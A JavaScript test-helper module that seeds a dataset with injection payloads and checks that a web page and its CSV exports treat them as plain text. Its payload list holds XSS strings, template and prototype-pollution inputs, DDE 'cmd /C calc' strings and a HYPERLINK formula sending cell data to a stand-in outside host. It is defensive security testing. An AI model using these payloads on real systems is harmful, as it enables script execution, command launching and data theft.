// Texts that somebody could put into data to run something, and what must not have come of them.
import assert from 'node:assert/strict';

/** What a text could be if somebody wanted to run something: as markup, in an attribute, in a spreadsheet, as a template, as a name of an object. */
export const payloads = [
  '<img src=x onerror="window.hacked=1">', '"><svg onload=window.hacked=1>', "javascript:window.hacked=1", '</style><script>window.hacked=1</script>', '${window.hacked=1}', '{{constructor.constructor("window.hacked=1")()}}',
  '=HYPERLINK("https://nguoi-la.example/?"&A1)', '+1+cmd|" /C calc"!A0', '-1+1', '@SUM(1)', "5G,=cmd|'/C calc'!A0", 'x; =1+1', 'x\n\t+1', '",""@SUM(1)', '__proto__', '\u202e\u0000\ufeff<!--',
  // Signs of full width, and what stands behind characters that some program drops.
  '＝1+1', '＋1', '－1+1', '＠SUM(1)', '\u0000=1+1', '\u0001\u001f+1', '\u200b@SUM(1)', '\u00a0\u3000-1+1', '\t=1+1', '\r=1+1',
];

/** The dataset with what no document of this province has: sections of sources, numbers of documents, partners and parts of tasks. */
export function filled(value) {
  if (Array.isArray(value)) return value.map(filled);
  if (!value || typeof value !== 'object') return value;
  const copy = Object.fromEntries(Object.entries(value).map(([key, each]) => [key, filled(each)]));
  if (copy.lines) copy.section = 'II.3';
  if (copy.issuer) copy.number = '12/BC';
  if (copy.recurrence || copy.printedState || copy.money) Object.assign(copy, { partners: { vi: 'sở', en: 'office' }, subtasks: [{ no: 1, name: { vi: 'việc', en: 'part' }, source: copy.source }] });
  return copy;
}

/**
 * The dataset with a payload in every text that a reader sees, and in every name of a person, office or file, each with its place in the file between
 * two marks; what the program tells apart by stays.
 */
export function hostile(value, path = [], count = { n: 0 }) {
  if (typeof value === 'string') {
    const key = path.at(-1);
    const isWords = ['vi', 'en', 'number', 'section', 'file', 'unit'].includes(key) && !(key === 'unit' && path.length < 4);
    const place = path.filter((step) => !/^(\d+|vi|en)$/.test(step)).join('.');
    return isWords ? `${payloads[count.n++ % payloads.length]} #${place}# ${value.slice(0, 40)}` : value;
  }
  if (Array.isArray(value)) return value.map((each, index) => hostile(each, [...path, index], count));
  if (value && typeof value === 'object') return Object.fromEntries(Object.entries(value).map(([key, each]) => [key, hostile(each, [...path, key], count)]));
  return value;
}

const formula = /^[\s\p{C}"]*([=+@＝＋＠]|[-－](?![\d.,]+$))/u;

/** Fails where a cell of a CSV file is a formula, also for a spreadsheet that reads with another separator, or that ends a cell where the line ends. */
export function assertNoFormula(text) {
  const cells = text.replace(/^\ufeff/, '').split(/\r\n|[;,](?=(?:[^"]*"[^"]*")*[^"]*$)/).map((cell) => cell.replace(/^"|"$/g, ''));
  assert.deepEqual(cells.filter((cell) => formula.test(cell) || /^[\t\r\n]/.test(cell)), []);
  assert.deepEqual(text.split(/[;,\t\r\n]/).filter((piece) => formula.test(piece)), []);
}

/** Every text in a value. */
export const textsOf = (value) => (typeof value === 'string' ? [value] : value && typeof value === 'object' ? Object.values(value).flatMap(textsOf) : []);

/** The words of the page, those in shadow trees too. */
export const textOf = (page) => page.evaluate(() => {
  const trees = [document];
  for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
  return trees.map((tree) => tree.textContent).join('\n');
});

/** Fails unless the page shows payloads as words and nothing else came of them. */
export async function assertTextOnly(page) {
  const found = await page.evaluate(() => {
    const trees = [document];
    for (const tree of trees) for (const each of tree.querySelectorAll('*')) if (each.shadowRoot) trees.push(each.shadowRoot);
    const all = trees.flatMap((tree) => [...tree.querySelectorAll('*')]);
    return {
      hacked: 'hacked' in window, shown: trees.some((tree) => /<img src=x|=HYPERLINK|<svg onload/.test(tree.textContent)),
      made: all.filter((each) => ['img', 'iframe', 'object', 'embed', 'base', 'meta'].includes(each.localName) && !document.head.contains(each)).map(({ localName }) => localName),
      handlers: all.flatMap((each) => each.getAttributeNames()).filter((name) => /^on/i.test(name)),
      links: all.filter(({ localName }) => localName === 'a').map((each) => each.getAttribute('href')).filter((href) => href && !/^(https?:|#|blob:|\/)/.test(href)),
    };
  });
  assert.deepEqual(found, { hacked: false, shown: true, made: [], handlers: [], links: [] });
}
